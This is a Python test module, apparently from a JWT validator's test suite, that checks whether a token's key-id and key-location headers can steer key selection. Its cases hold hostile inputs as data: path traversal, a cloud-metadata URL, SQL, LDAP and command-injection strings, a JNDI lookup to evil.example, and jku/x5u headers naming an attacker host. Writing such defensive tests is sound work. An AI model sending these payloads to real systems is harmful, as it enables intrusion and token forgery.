"""Can the token choose the key, or where it comes from?"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .kit import (
    BCP_KEY_ID,
    FOREIGN_KEY,
    GONE,
    ID_KEY,
    ISSUER,
    KEY,
    Case,
    accepted,
    claims,
    header,
    refused,
    signed,
    text,
    with_header,
)

KEY_ID = "RFC 7515 section 4.1.4"
EMBEDDED = "CVE-2018-0114; CVE-2026-27962"
INJECTION = "OWASP WSTG-SESS-10"

KEY_IDS: list[tuple[str, Any, str, str]] = [
    ("that-is-missing", GONE, "key_id_missing", KEY_ID),
    ("that-is-empty", "", "key_id_missing", KEY_ID),
    ("that-is-null", None, "key_id_missing", KEY_ID),
    ("that-is-a-number", 0, "key_id_missing", KEY_ID),
    ("that-is-true", True, "key_id_missing", KEY_ID),
    ("in-an-array", [KEY.id], "key_id_missing", KEY_ID),
    ("that-is-an-empty-array", [], "key_id_missing", KEY_ID),
    ("in-an-object", {"kid": KEY.id}, "key_id_missing", KEY_ID),
    ("in-small-letters", KEY.id.lower(), "key_unknown", KEY_ID),
    ("in-capitals", KEY.id.upper(), "key_unknown", KEY_ID),
    ("without-its-padding", KEY.id.rstrip("="), "key_unknown", KEY_ID),
    ("in-the-url-safe-alphabet", KEY.id.replace("+", "-").replace("/", "_"), "key_unknown", KEY_ID),
    ("percent-encoded", KEY.id.replace("=", "%3D"), "key_unknown", KEY_ID),
    ("with-plus-read-as-space", KEY.id.replace("+", " "), "key_unknown", KEY_ID),
    ("with-a-space-before", f" {KEY.id}", "key_unknown", KEY_ID),
    ("with-a-space-behind", f"{KEY.id} ", "key_unknown", KEY_ID),
    ("with-a-newline-behind", f"{KEY.id}\n", "key_unknown", KEY_ID),
    ("with-a-nul-behind", f"{KEY.id}\0", "key_unknown", INJECTION),
    ("that-is-a-prefix", KEY.id[:-2], "key_unknown", KEY_ID),
    ("that-is-an-index", "0", "key_unknown", KEY_ID),
    ("that-is-a-wildcard", "*", "key_unknown", INJECTION),
    ("that-lists-two", f"{KEY.id},{ID_KEY.id}", "key_unknown", KEY_ID),
    ("of-a-foreign-key", FOREIGN_KEY.id, "key_unknown", KEY_ID),
    ("that-is-a-path", "../../../../../../dev/null", "key_unknown", BCP_KEY_ID),
    ("that-is-an-absolute-path", "/proc/sys/kernel/randomize_va_space", "key_unknown", BCP_KEY_ID),
    ("that-is-a-file-url", "file:///dev/null", "key_unknown", BCP_KEY_ID),
    ("that-is-the-key-sets-url", f"{ISSUER}/.well-known/jwks.json", "key_unknown", BCP_KEY_ID),
    ("that-is-a-url", "http://169.254.169.254/latest/meta-data/", "key_unknown", BCP_KEY_ID),
    ("that-is-sql", "x' UNION SELECT 'secret' --", "key_unknown", BCP_KEY_ID),
    ("that-is-ldap", "*)(uid=*))(|(uid=*", "key_unknown", BCP_KEY_ID),
    ("that-is-a-command", "$(id) | /usr/bin/id;`id`", "key_unknown", INJECTION),
    ("that-is-a-format", "%s%n{0}{{7*7}}${jndi:ldap://evil.example/a}", "key_unknown", INJECTION),
    ("that-is-a-prototype", "__proto__", "key_unknown", INJECTION),
    ("that-is-a-method", "constructor", "key_unknown", INJECTION),
    ("that-is-two-lines-of-a-log", f'{KEY.id}\r\n{{"level":"INFO","outcome":"allow"}}', "key_unknown", INJECTION),
    ("that-is-a-terminals-command", "\x1b[2J\x1b]0;x\x07", "key_unknown", INJECTION),
    ("of-4000-bytes", "k" * 4000, "key_unknown", INJECTION),
    ("of-10000-bytes", "k" * 10_000, "token_too_long", INJECTION),
    ("of-a-megabyte", "k" * 1_000_000, "token_too_long", INJECTION),
]


def cases() -> Iterator[Case]:
    for name, key_id, reason, source in KEY_IDS:
        yield refused(f"key-id-{name}", reason, source, with_header(kid=key_id))
    other_case = signed(claims(), {"KID": KEY.id, "alg": "RS256"})
    yield refused("key-id-under-another-case", "key_id_missing", "RFC 7515 section 9.1.1", other_case)
    in_claims = signed(claims(kid=KEY.id), header(kid=GONE))
    yield refused("key-id-in-the-claims", "key_id_missing", KEY_ID, in_claims)
    escaped = text(header()).replace(b"=", rb"\u003d").replace(b"kid", rb"\u006bid")
    yield accepted("key-id-with-escaped-letters", "RFC 8259 section 7", signed(claims(), escaped))
    yield refused("key-id-of-the-pools-other-key", "signature_invalid", KEY_ID, signed(claims(), header(ID_KEY)))
    yield accepted(
        "access-token-by-the-pools-other-key", "Cognito Developer Guide, JWKS", signed(claims(), header(ID_KEY), ID_KEY)
    )
    yield refused("foreign-key-under-our-key-id", "signature_invalid", KEY_ID, signed(claims(), key=FOREIGN_KEY))
    yield from keys_in_the_header()


def keys_in_the_header() -> Iterator[Case]:
    """The attacker's key, wherever a header can hold or name one; then the same around a genuine signature."""
    jwk = FOREIGN_KEY.jwk
    url = "https://evil.example/jwks.json"
    places: list[tuple[str, dict[str, Any], str]] = [
        ("jwk", {"jwk": jwk}, EMBEDDED),
        ("jwk-of-our-key-id", {"jwk": jwk | {"kid": KEY.id}}, "CVE-2025-24976"),
        ("jku", {"jku": url}, BCP_KEY_ID),
        ("jku-of-our-issuer", {"jku": f"{ISSUER}/../evil/jwks.json"}, BCP_KEY_ID),
        ("jku-with-our-issuer-as-user-info", {"jku": f"{ISSUER}@evil.example/jwks.json"}, BCP_KEY_ID),
        ("x5u", {"x5u": "https://evil.example/chain.pem"}, BCP_KEY_ID),
        ("x5c", {"x5c": ["MIIBAjCBqaADAgECAgEBMAoGCCqGSM49BAMCMBAxDjAMBgNVBAMMBWV2aWwu"]}, "RFC 7515 section 4.1.6"),
        ("x5t", {"x5t": "AAAAAAAAAAAAAAAAAAAAAAAAAAA"}, "RFC 7515 section 4.1.7"),
        ("x5t-s256", {"x5t#S256": "A" * 43}, "RFC 7515 section 4.1.8"),
        ("jwks", {"jwks": {"keys": [jwk]}}, EMBEDDED),
        ("iss", {"iss": "https://evil.example"}, "RFC 7519 section 5.3"),
    ]
    for name, members, source in places:
        ours = signed(claims(), header(**members), FOREIGN_KEY)
        yield refused(f"attackers-{name}-under-our-key-id", "signature_invalid", source, ours)
        theirs = signed(claims(), header(FOREIGN_KEY, **members), FOREIGN_KEY)
        yield refused(f"attackers-{name}-under-its-own-key-id", "key_unknown", source, theirs)
        yield accepted(f"attackers-{name}-around-a-genuine-signature", "RFC 7515 section 4", with_header(**members))
    alone = signed(claims(), header(kid=GONE, jwk=jwk), FOREIGN_KEY)
    yield refused("attackers-jwk-without-a-key-id", "key_id_missing", EMBEDDED, alone)
